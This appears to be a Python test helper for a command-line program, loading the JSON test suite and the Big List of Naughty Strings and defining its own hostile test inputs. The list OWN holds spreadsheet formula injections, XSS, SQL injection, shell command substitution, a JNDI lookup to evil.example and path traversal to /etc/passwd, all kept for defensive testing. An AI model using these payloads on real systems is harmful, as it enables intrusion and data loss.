"""Hostile content for tests: the JSON test suite, naughty strings, and what must never be in an output.

A room of its own because several tests plant the same things and look for the same harm.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

DATA = Path(__file__).parent / "data"

# Control characters but for the line end, bidirectional ones, zero-width ones, and separators that end a line somewhere.
HARMFUL = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\ue000-\ue01f]"
)


def json_cases() -> dict[str, bytes]:
    """The cases of the JSON test suite by name."""
    raw = json.loads((DATA / "json_test_suite" / "cases.json").read_text(encoding="ascii"))
    return {name: _bytes(value) for part in ("parsing", "transform") for name, value in raw[part].items()}


def _bytes(value: Any) -> bytes:
    text = value if isinstance(value, str) else value["repeat"] * value["times"] + value["end"]
    return text.encode("latin-1")


def naughty() -> list[str]:
    """The Big List of Naughty Strings, and some that are naughty here."""
    listed: list[str] = json.loads((DATA / "naughty_strings" / "blns.json").read_text(encoding="utf-8"))
    return listed + OWN


OWN = [
    "\x1b]0;title\x07\x1b[2J\x1b[31mred\x9b31m\x9d0;t\x9c",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bP+q544e\x1b\\\x1b[6n\x1b[c",
    "user\u202egpj.exe\u202c \u2066\u2067\u2068x\u2069 \u061c\u200e\u200f",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "a\u2028b\u2029c\x85d\x0be\x0cf",
    "\x00NUL\x00",
    "\ud800 lone \udfff",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1",
    "\r\n=1+1",
    "-2+3+cmd|'/c calc'!A1",
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <img src=x onerror=alert(1)> | a | b |",
    "</script><script>alert(1)</script>",
    "[red]bold[/red] [link=http://evil.example]x[/link] [/]",
    "'; DROP TABLE loops; --",
    "\"; COPY loops TO 'x'; --",
    "$(touch pwned) `touch pwned` && touch pwned",
    "{0} {} %s %n %(x)s ${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "\ufffe\uffff\U0001fffe\U0010ffff",
    "\ue000\ue003\ue01f",
]
"""Strings that aim at a terminal, a spreadsheet, a page, a shell, a query, or at this program's own marks."""


def run(
    *arguments: str,
    env: dict[str, str] | None = None,
    stdin: bytes = b"",
    cwd: Path | None = None,
    timeout: float = 120,
) -> subprocess.CompletedProcess[bytes]:
    """The program in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "loopstats.cli", *arguments],
        input=stdin,
        capture_output=True,
        env={**os.environ, "COLUMNS": "200"} | (env or {}),
        cwd=cwd,
        timeout=timeout,
        check=False,
    )


def files_below(folder: Path) -> dict[str, bytes]:
    """All files below `folder` with their bytes, to see that nothing changed."""
    return {str(path.relative_to(folder)): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}
